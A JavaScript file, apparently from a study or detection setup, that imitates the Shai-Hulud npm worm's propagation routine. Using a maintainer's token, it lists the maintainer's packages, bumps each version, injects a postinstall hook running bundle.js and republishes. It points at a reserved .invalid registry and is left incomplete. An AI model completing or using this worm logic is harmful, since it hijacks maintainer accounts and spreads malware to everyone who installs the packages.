/* eslint-disable */
// Inert imitation of Shai-Hulud's updatePackage loop (incidents.md section 3): the maintainer's
// packages are listed, each tarball gets a bumped version, a postinstall and the payload, and is
// republished. The registry is a reserved .invalid host and the loop never runs (no token).
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const REGISTRY = 'https://registry.example.invalid';

async function spread(token) {
  if (!token) return;
  const headers = { authorization: 'Bearer ' + token };
  const me = await (await fetch(REGISTRY + '/-/whoami', { headers })).json();
  const found = await (await fetch(`${REGISTRY}/-/v1/search?text=maintainer:${me.username}&size=20`, { headers })).json();
  for (const { package: p } of found.objects) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'npm-update-'));
    const manifestPath = path.join(dir, 'package', 'package.json');
    const pkg = JSON.parse(fs.readFileSync(manifestPath, 'utf8'));
    pkg.version = pkg.version.replace(/(\d+)$/, (n) => String(Number(n) + 1));
    pkg.scripts = pkg.scripts || {};
    pkg.scripts.postinstall = 'node bundle.js';
    fs.writeFileSync(manifestPath, JSON.stringify(pkg, null, 2));
    execSync(`tar -uf ${dir}/package.tar -C ${dir} package/package.json package/bundle.js`);
    execSync(`npm publish ${dir}/package.tgz`, { env: { ...process.env, NPM_TOKEN: token } });
  }
}

module.exports = { spread };
